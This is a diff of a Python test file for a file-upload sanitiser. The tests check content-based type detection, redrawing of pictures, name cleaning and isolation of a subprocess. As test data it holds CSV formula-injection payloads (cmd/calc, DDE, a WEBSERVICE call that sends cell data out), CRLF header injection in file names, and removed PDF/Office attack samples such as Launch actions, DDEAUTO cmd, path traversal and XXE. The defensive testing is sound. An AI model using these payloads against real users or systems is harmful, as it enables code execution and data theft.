@@ -1,17 +1,15 @@
 """What a file is, by its content; what is refused, and what is left of what is kept (R17)."""
 
 import io
-import zipfile
+import subprocess
 
-import pikepdf
 import pillow_heif
 import pytest
-from pikepdf import Dictionary, Name
 from PIL import Image
 
-from situations.fichiers import images
-from situations.fichiers import pdf as module_pdf
-from situations.fichiers.noms import nom_libre, nom_propre
+from situations.fichiers.formats import images
+from situations.fichiers.formats.textes import FORMULE
+from situations.fichiers.noms import nom_libre, nom_propre, nom_sur_disque
 from situations.fichiers.preparation import preparer
 from situations.fichiers.reconnaissance import reconnaitre
 from situations.fichiers.refus import TROP, FichierRefuse
@@ -36,12 +34,17 @@ def prepare(tmp_path):
 def refaire(tmp_path):
     """``refaire(module, bytes)``: the work of the process apart, done here; returns what is kept, open."""
 
-    def aller(module, octets):
+    def chemins(octets):
         source, sortie = tmp_path / "source", tmp_path / "sortie"
         source.write_bytes(octets)
-        module.refaire(source, sortie, tmp_path / "vignette")
+        return source, sortie, tmp_path / "vignette"
+
+    def aller(module, octets):
+        _, sortie, _ = ou = chemins(octets)
+        module.refaire(*ou)
         return io.BytesIO(sortie.read_bytes())
 
+    aller.chemins = chemins
     return aller
 
 
@@ -51,13 +54,18 @@ def refaire(tmp_path):
 @pytest.mark.parametrize(
     ("nom", "octets", "attendu"),
     [
-        ("photo.pdf", fichiers.image("PNG"), "image"),
-        ("photo", fichiers.image("JPEG"), "image"),
-        ("a.txt", fichiers.image("GIF", mode="P", couleur=0), "image"),
-        ("a.exe", fichiers.image("WEBP"), "image"),
+        ("photo.pdf", fichiers.image("PNG"), "images"),
+        ("photo", fichiers.image("JPEG"), "images"),
+        ("a.txt", fichiers.image("GIF", mode="P", couleur=0), "images"),
+        ("a.exe", fichiers.image("WEBP"), "images"),
         ("rapport.doc", fichiers.pdf(), "pdf"),
         ("x.zip", fichiers.docx(), "bureautique"),
-        ("notes.TXT", "Réunion à 10 h".encode("cp1252"), "texte"),
+        ("notes.TXT", "Réunion à 10 h".encode("cp1252"), "textes"),
+        ("scan", fichiers.image("TIFF"), "images"),
+        ("dessin", fichiers.image("BMP"), "images"),
+        ("photo", fichiers.image("AVIF", (64, 64)), "images"),
+        ("memo.txt", fichiers.wav(), "medias"),
+        ("memo.txt", fichiers.mp4(), "medias"),
     ],
 )
 def test_a_file_is_what_it_holds_and_not_what_its_name_says(tmp_path, nom, octets, attendu):
@@ -77,14 +85,22 @@ def test_a_file_is_what_it_holds_and_not_what_its_name_says(tmp_path, nom, octet
         ("page.html", b"<!doctype html><p>Bonjour", "page web"),
         ("page.txt", b"Bonjour <script>alert(1)</script>", "page web"),
         ("donnees.xml", b"<donnees/>", "XML"),
-        ("tableau.csv", b"a;b\n=cmd|' /C calc'!A0;2", "lance un programme"),
         ("script.bat", b"@echo off", "n’est pas accept"),
         ("tout.zip", fichiers.archive({"a.txt": "a"}), "archive"),
         ("tout.docx", b"Rar!\x1a\x07\x00" + bytes(100), "archive"),
         ("vieux.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "ancien format"),
         ("notes.txt", b"Bonjour\x00\x01\x02", "n’en est pas un"),
         ("notes.txt", b"Bonjour\n%PDF-1.7\n", "deux formats"),
-        ("son.mp3", b"ID3\x04\x00" + bytes(300), "n’est pas accept"),
+        ("son.flac", b"fLaC" + bytes(300), "n’est pas accept"),
+        (
+            "rapport.pages",
+            fichiers.archive({"Index/Document.iwa": b"x"}),
+            "choisissez «\u00a0Exporter vers\u00a0», puis Word",
+        ),
+        ("diapo.key", fichiers.archive({"Index/Document.iwa": b"x"}), "puis PowerPoint ou PDF"),
+        ("tableau.numbers", fichiers.archive({"Index.zip": b"x"}), "Un document Numbers .* puis Excel"),
+        ("renomme.zip", fichiers.archive({"Index/Document.iwa": b"x"}), "Un document Pages"),
+        ("cle.key", b"-----BEGIN", "Un document Keynote"),
         ("notes.txt", b"a" * (5 * 1024 * 1024 + 1), "5\u00a0Mo"),
     ],
 )
@@ -99,6 +115,31 @@ def test_a_text_is_kept_byte_for_byte_under_the_extension_of_a_text(prepare):
     assert (preparee.nom, preparee.type_mime) == ("Règlements.csv", "text/csv")
     assert preparee.chemin.read_bytes() == octets
     assert preparee.vignette is None
+
+
+@pytest.mark.parametrize(
+    "formule",
+    [
+        b"=cmd|' /C calc'!A0",
+        b"\"=cmd|'\n/C calc'!A0\"",
+        b"  +cmd|'/C calc'!A0",
+        b"@SUM(1+1)*cmd|' /C calc'!A0",
+        b'=DDE("soffice";"/tmp/a.ods";"a1")',
+        b'=WEBSERVICE("https://ailleurs.example.org/"&A1)',
+    ],
+)
+def test_a_cell_that_acts_becomes_a_text_and_that_is_said(prepare, formule):
+    preparee = prepare("tableau.csv", b"Montant;-12,50\n" + formule + b";2\n")
+    assert preparee.notes == (FORMULE,)
+    ici = len(formule) - len(formule.lstrip(b'" '))
+    attendu = formule[:ici] + b"'" + formule[ici:]
+    assert preparee.chemin.read_bytes() == b"Montant;-12,50\n" + attendu + b";2\n"
+
+
+def test_a_cell_that_only_computes_is_left_as_it_is(prepare):
+    octets = "Montant;=B2*1,2;-3;tél. 0123\n".encode("utf-16")
+    preparee = prepare("tableau.csv", octets)
+    assert preparee.notes == () and preparee.chemin.read_bytes() == octets
 
 
 # --- Pictures ------------------------------------------------------------------------------------------------
@@ -131,6 +172,10 @@ def test_what_hides_behind_or_before_the_pixels_does_not_survive(refaire):
         (fichiers.image("PNG", mode="I;16", couleur=65535), ("PNG", "L")),
         (fichiers.image("GIF", mode="P", couleur=0), ("PNG", "RGB")),
         (fichiers.image("WEBP"), ("WEBP", "RGB")),
+        (fichiers.image("TIFF"), ("PNG", "RGB")),
+        (fichiers.image("TIFF", compression="tiff_lzw"), ("PNG", "RGB")),
+        (fichiers.image("BMP"), ("PNG", "RGB")),
+        (fichiers.image("AVIF", (64, 64)), ("JPEG", "RGB")),
         (fichiers.image("JPEG", mode="CMYK", couleur=(0, 0, 0, 0)), ("JPEG", "RGB")),
         (fichiers.image("JPEG", mode="L", couleur=255), ("JPEG", "L")),
     ],
@@ -140,9 +185,21 @@ def test_every_kind_of_picture_is_drawn_again(refaire, octets, attendu):
     assert (kept.format, kept.mode) == attendu
 
 
-def test_the_photo_of_an_iphone_becomes_a_jpeg_that_everybody_opens(refaire):
+@pytest.mark.parametrize("marque", [b"heic", b"heix", b"hevc", b"mif1", b"MiHE", b"MiHB"])
+def test_the_photo_of_a_phone_becomes_a_jpeg_that_everybody_opens(prepare, marque):
     pillow_heif.register_heif_opener()
-    assert Image.open(refaire(images, fichiers.image("HEIF", (64, 64)))).format == "JPEG"
+    octets = fichiers.image("HEIF", (64, 64))
+    photo = prepare("IMG_0001.HEIC", octets[:8] + marque + octets[12:])
+    assert (photo.nom, Image.open(photo.chemin).format) == ("IMG_0001.jpg", "JPEG")
+
+
+def test_of_a_file_of_several_pictures_the_first_one_is_kept_and_that_is_said(refaire):
+    pages = [Image.new("RGB", (9, 9), couleur) for couleur in ("red", "blue")]
+    for format_ in ("TIFF", "GIF", "WEBP"):
+        sortie = io.BytesIO()
+        pages[0].save(sortie, format_, save_all=True, append_images=pages[1:])
+        assert images.refaire(*refaire.chemins(sortie.getvalue())).notes == (images.SEULE,)
+    assert images.refaire(*refaire.chemins(fichiers.image("TIFF"))).notes == ()
 
 
 @pytest.mark.parametrize("octets", [fichiers.image_immense(), fichiers.image_immense(60_000, 900)])
@@ -158,119 +215,6 @@ def test_a_broken_picture_is_refused(refaire, octets):
         refaire(images, octets)
 
 
-# --- PDF -----------------------------------------------------------------------------------------------------
-
-
-def ouvre(**action):
-    return lambda d: setattr(d.Root, "OpenAction", Dictionary(**action))
-
-
-def incorpore(d):
-    d.attachments["virus.exe"] = pikepdf.AttachedFileSpec(d, b"MZ", filename="virus.exe")
-
-
-def a_l_affichage(d):
-    d.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.URI, URI="https://ailleurs.example.org"))
-
-
-def profond(d):
-    """A script deep inside a page that nothing else points to."""
-    d.pages[0].obj.AA = Dictionary(O=Dictionary(Next=[Dictionary(S=Name.JavaScript, JS="app.alert(1)")]))
-
-
-@pytest.mark.parametrize(
-    ("octets", "phrase"),
-    [
-        (fichiers.pdf(ouvre(S=Name.JavaScript, JS="app.alert(1)")), "JavaScript"),
-        (fichiers.pdf(profond), "JavaScript"),
-        (fichiers.pdf(lambda d: setattr(d.Root, "AcroForm", Dictionary(XFA=[]))), "JavaScript"),
-        (fichiers.pdf(ouvre(S=Name.Launch, F="calc.exe")), "action"),
-        (fichiers.pdf(ouvre(S=Name.URI, URI="https://ailleurs.example.org")), "action"),
-        (fichiers.pdf(a_l_affichage), "action"),
-        (fichiers.pdf(ouvre(S=Name.GoToR, F="//ailleurs/partage")), "action"),
-        (fichiers.pdf(incorpore), "d’autres fichiers"),
-        (fichiers.pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "protégé"),
-        (fichiers.pdf(encryption=pikepdf.Encryption(owner="a", user="")), "protégé"),
-        (b"%PDF-1.7\nn'importe quoi", "abîmé"),
-    ],
-)
-def test_a_pdf_that_acts_hides_or_locks_is_refused(refaire, octets, phrase):
-    with pytest.raises(FichierRefuse, match=phrase):
-        refaire(module_pdf, octets)
-
-
-def test_a_pdf_with_links_and_a_page_to_begin_at_is_kept(refaire, tmp_path):
-    def lier(d):
-        lien = Dictionary(S=Name.URI, URI="https://example.org")
-        d.pages[0].obj.Annots = [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=lien)]
-        d.Root.OpenAction = pikepdf.Array([d.pages[0].obj, Name.Fit])
-
-    assert len(pikepdf.open(refaire(module_pdf, fichiers.pdf(lier))).pages) == 1
-    assert Image.open(tmp_path / "vignette").size == (258, 360)
-
-
-def test_a_pdf_that_is_also_an_archive_is_only_a_pdf_once_kept(refaire):
-    octets = fichiers.pdf() + fichiers.archive({"virus.exe": b"MZ"})
-    assert zipfile.is_zipfile(io.BytesIO(octets))
-    kept = refaire(module_pdf, octets)
-    assert not zipfile.is_zipfile(kept)
-    assert b"virus" not in kept.getvalue()
-
-
-# --- Office documents -----------------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("octets", "extension"), [(fichiers.docx(), "docx"), (fichiers.odt(), "odt"), (fichiers.docx() + b"MZ", "docx")]
-)
-def test_an_office_document_is_written_again_from_its_parts(prepare, octets, extension):
-    preparee = prepare("Lettre.pdf", octets)
-    assert preparee.nom == f"Lettre.{extension}"
-    assert not preparee.chemin.read_bytes().endswith(b"MZ")
-    with zipfile.ZipFile(preparee.chemin) as kept:
-        assert kept.testzip() is None
-        if extension == "odt":
-            assert (kept.infolist()[0].filename, kept.infolist()[0].compress_type) == ("mimetype", zipfile.ZIP_STORED)
-
-
-RELATIONS = '<Relationships><Relationship Type="x/{}" Target="//ailleurs/a" TargetMode="External"/></Relationships>'
-MACRO = "ms-word.document.macroEnabled"
-
-
-@pytest.mark.parametrize(
-    ("octets", "phrase"),
-    [
-        (fichiers.docx(MACRO), "macros"),
-        (fichiers.docx(**{"word/vbaProject.bin": b"x"}), "macros"),
-        (fichiers.docx(**{"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0x"}), "objet"),
-        (fichiers.docx(**{"word/media/photo.png": b"MZ\x90"}), "objet"),
-        (fichiers.docx(**{"word/embeddings/b.xlsx": fichiers.docx(MACRO)}), "macros"),
-        (fichiers.docx(**{"word/media/c.png": fichiers.archive({"a": "b"})}), "objet"),
-        (fichiers.docx(**{"word/_rels/a.rels": RELATIONS.format("attachedTemplate")}), "ailleurs"),
-        (fichiers.docx(**{"word/footer.xml": "<w:instrText> DDEAUTO c:\\cmd"}), "ailleurs"),
-        (fichiers.docx(**{"word/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "abîmé"),
-        (fichiers.docx(**{"../../etc/passwd": "x"}), "abîmé"),
-        (fichiers.docx()[:-60], "abîmé"),
-        (fichiers.odt(**{"Basic/Standard/Module1.xml": "x"}), "macros"),
-        (fichiers.odt(**{"content.xml": '<script:event-listener script:event-name="dom:load"/>'}), "macros"),
-        (fichiers.odt(**{"META-INF/manifest.xml": "<encryption-data/>"}), "mot de passe"),
-    ],
-)
-def test_an_office_document_that_acts_is_refused(prepare, octets, phrase):
-    with pytest.raises(FichierRefuse, match=phrase):
-        prepare("lettre.docx", octets)
-
-
-def test_a_link_of_a_document_to_a_site_is_no_danger(prepare):
-    prepare("lettre.docx", fichiers.docx(**{"word/_rels/a.rels": RELATIONS.format("hyperlink")}))
-
-
-def test_a_document_that_swells_is_refused_before_it_is_unpacked(prepare, monkeypatch):
-    monkeypatch.setattr("situations.fichiers.bureautique.DEPLIE_MAXIMUM", 1_000_000)
-    with pytest.raises(FichierRefuse, match="démesuré"):
-        prepare("lettre.docx", fichiers.docx(**{"word/a.xml": b" " * 1_000_001}))
-
-
 # --- The process apart ----------------------------------------------------------------------------------------
 
 
@@ -280,8 +224,7 @@ def test_a_picture_and_a_pdf_go_through_a_process_of_their_own(prepare):
     assert Image.open(photo.vignette).size == (20, 40)
     document = prepare("facture.exe", fichiers.pdf())
     assert (document.nom, document.type_mime) == ("facture.pdf", "application/pdf")
-    with pytest.raises(FichierRefuse, match="JavaScript"):
-        prepare("js.pdf", fichiers.pdf(profond))
+    assert Image.open(document.vignette).size == (258, 360)
 
 
 def test_a_process_that_dies_refuses_the_file_alone(prepare, monkeypatch):
@@ -289,6 +232,34 @@ def test_a_process_that_dies_refuses_the_file_alone(prepare, monkeypatch):
     with pytest.raises(FichierRefuse) as refus:
         prepare("photo.png", fichiers.image())
     assert refus.value.message == TROP
+
+
+def test_a_page_that_cannot_be_drawn_costs_the_thumbnail_alone(prepare, monkeypatch, tmp_path):
+    """The answer is given before the page is drawn: the process may die of it."""
+
+    def mourir(commande, **options):
+        (tmp_path / "sortie").write_bytes(b"%PDF-")
+        (tmp_path / "vignette").write_bytes(b"half of a picture")
+        dit = b'{"type": "application/pdf", "extension": "pdf", "notes": []}'
+        return subprocess.CompletedProcess(commande, -9, dit, b"")
+
+    monkeypatch.setattr(subprocess, "run", mourir)
+    preparee = prepare("a.pdf", fichiers.pdf())
+    assert (preparee.type_mime, preparee.vignette) == ("application/pdf", None)
+
+
+def test_the_process_apart_inherits_no_secret(prepare, monkeypatch):
+    vu = {}
+
+    def lancer(commande, **options):
+        vu.update(options["env"])
+        return subprocess.CompletedProcess(commande, 1, b"", b"")
+
+    monkeypatch.setenv("SECRET_KEY", "secrète")
+    monkeypatch.setattr(subprocess, "run", lancer)
+    with pytest.raises(FichierRefuse):
+        prepare("photo.png", fichiers.image())
+    assert vu == {"LC_ALL": "C.UTF-8"}
 
 
 # --- Names ----------------------------------------------------------------------------------------------------
@@ -302,7 +273,11 @@ def test_a_process_that_dies_refuses_the_file_alone(prepare, monkeypatch):
         ("C:\\Users\\moi\\été.jpeg", "été.jpg"),
         ("facture.pdf.exe", "facture.jpg"),
         ("rapport\u202efdp.exe", "rapportfdp.jpg"),
-        ('a"b\r\nSet-Cookie: c', "abSet-Cookie c.jpg"),
+        ("/tmp/photo.png", "photo.jpg"),
+        ("stage/../../photo.png", "photo.jpg"),
+        ("Devis 12/03/2026.pdf", "Devis 12/03/2026.jpg"),
+        ("Prix HT/TTC : combien ?.xlsx", "Prix HT/TTC : combien ?.jpg"),
+        ('a"b\r\nSet-Cookie: c', "abSet-Cookie: c.jpg"),
         ("Bilan 12.03.2026", "Bilan 12.03.2026.jpg"),
         ("rapport.v2.final.pdf", "rapport.v2.final.jpg"),
         ("...", "fichier.jpg"),
@@ -317,3 +292,18 @@ def test_a_name_keeps_its_words_and_nothing_that_deceives(nom, attendu):
 def test_two_files_of_a_fiche_never_have_the_same_name():
     assert nom_libre("photo.jpg", []) == "photo.jpg"
     assert nom_libre("photo.jpg", ["Photo.JPG", "photo (2).jpg"]) == "photo (3).jpg"
+    assert nom_libre("12/03.pdf", ["12-03.pdf"]) == "12/03 (2).pdf"
+
+
+@pytest.mark.parametrize(
+    ("nom", "attendu"),
+    [
+        ("Devis 12/03/2026.pdf", "Devis 12-03-2026.pdf"),
+        ("Combien ?.pdf", "Combien -.pdf"),
+        ("CON.pdf", "_CON.pdf"),
+        ("lpt1.tar.pdf", "_lpt1.tar.pdf"),
+        ("Console.pdf", "Console.pdf"),
+    ],
+)
+def test_a_name_that_leaves_the_site_fits_any_disk(nom, attendu):
+    assert nom_sur_disque(nom) == attendu
